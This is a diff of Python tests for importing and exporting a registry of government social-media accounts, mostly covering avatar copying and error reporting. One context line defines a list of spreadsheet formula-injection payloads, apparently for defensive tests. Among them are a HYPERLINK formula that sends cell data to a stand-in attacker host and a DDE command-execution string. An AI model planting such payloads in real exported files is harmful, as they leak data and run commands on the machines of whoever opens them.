@@ -149,25 +149,32 @@ def test_import_runs_are_recorded(store, tmp_path):
 
 def test_export_round_trip(store, tmp_path, cfg):
     from search_index.sqlite_backend import SQLiteStore
+    from tests.alerts.fixtures import png_bytes
 
-    (tmp_path / "a.png").write_bytes(b"\x89PNG")
+    (tmp_path / "a.png").write_bytes(png_bytes())
     rows = [list(r) for r in ROWS_ZH]
     rows[0][5] = "a.png"
     rows[1][9] = "李四\n王五"
-    import_registry(store, write_csv(tmp_path / "r.csv", HEADERS_ZH, rows, encoding="utf-8-sig"))
+    assert import_registry(store, write_csv(tmp_path / "r.csv", HEADERS_ZH, rows, encoding="utf-8-sig"),
+                           data_dir=cfg.data_dir).written
+    assert store.get("registry", "weibo:1234567890")["avatar"].startswith("avatars/")  # the store's copy
     out = tmp_path / "out" / "备案导出.xlsx"
     assert export_registry(store.scan("registry"), out) == 4
     parsed = read_registry(out)
     assert parsed.ok and parsed.warnings == []
     other = SQLiteStore(tmp_path / "other.db")
     try:
-        import_registry(other, out)
+        assert import_registry(other, out, data_dir=cfg.data_dir).written  # the export names the avatar store
         fields = lambda s: {d["_id"]: {f: d.get(f) for f in REGISTRY_FIELDS} for d in s.scan("registry")}  # noqa
         assert fields(other) == fields(store)
     finally:
         other.close()
     # And re-importing the export into the original store changes nothing.
-    assert import_registry(store, out).plan.summary()["unchanged"] == 4
+    assert import_registry(store, out, data_dir=cfg.data_dir).plan.summary()["unchanged"] == 4
+    # Elsewhere, without that image in the avatar store, the reference is an error (row and column).
+    missing = import_registry(other_store := SQLiteStore(tmp_path / "third.db"), out, data_dir=tmp_path / "empty")
+    other_store.close()
+    assert [(p.kind, p.row, p.column) for p in missing.file.errors] == [("avatar_missing", 2, "头像")]
 
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
@@ -219,12 +226,17 @@ def test_local_avatars_are_copied_into_the_data_dir_and_hashed(tmp_path, cfg):
                         "济南市公安局,微博,2,济南公安,img/broken.png\n", encoding="utf-8")
     data_dir = tmp_path / "data"
     with SQLiteStore(tmp_path / "s.db") as store:
+        # an image that cannot be decoded rejects the whole file: nothing is written, not even the good avatar
+        result = import_registry(store, csv_path, data_dir=data_dir)
+        assert not result.written and store.count("registry") == 0 and not (data_dir / "avatars").exists()
+        assert [(p.kind, p.row, p.column) for p in result.file.errors] == [("avatar_rejected", 3, "头像")]
+        csv_path.write_text("开办单位,平台,账号ID,账号名称,头像\n济南市政府,微博,1,济南发布,img/jn.png\n"
+                            "济南市公安局,微博,2,济南公安,\n", encoding="utf-8")
         result = import_registry(store, csv_path, data_dir=data_dir)
         assert result.written
-        good, bad = store.get("registry", "weibo:1"), store.get("registry", "weibo:2")
+        good, other = store.get("registry", "weibo:1"), store.get("registry", "weibo:2")
         assert good["avatar_path"].startswith("avatars/") and (data_dir / good["avatar_path"]).is_file()
-        assert len(good["avatar_hashes"]["phash"]) == 16 and "avatar_path" not in bad
-        assert [p.kind for p in result.file.warnings] == ["avatar_rejected"] and result.file.warnings[0].row == 3
+        assert len(good["avatar_hashes"]["phash"]) == 16 and "avatar_path" not in other
         again = import_registry(store, csv_path, data_dir=data_dir)
         assert again.plan.summary()["changed"] == 0 and again.plan.summary()["unchanged"] == 2
 
